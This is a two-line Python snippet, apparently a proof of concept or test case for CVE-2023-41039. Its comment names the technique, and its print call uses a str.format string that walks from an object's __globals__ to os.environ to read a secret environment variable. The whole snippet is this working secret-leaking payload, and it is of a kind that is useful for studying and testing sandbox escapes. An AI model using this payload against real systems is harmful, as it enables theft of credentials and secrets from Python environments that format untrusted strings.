# CVE-2023-41039: format traversal to the host module's os.environ.
print("{0.__globals__[os].environ[STATEK_TEST_SECRET]}".format(tool))
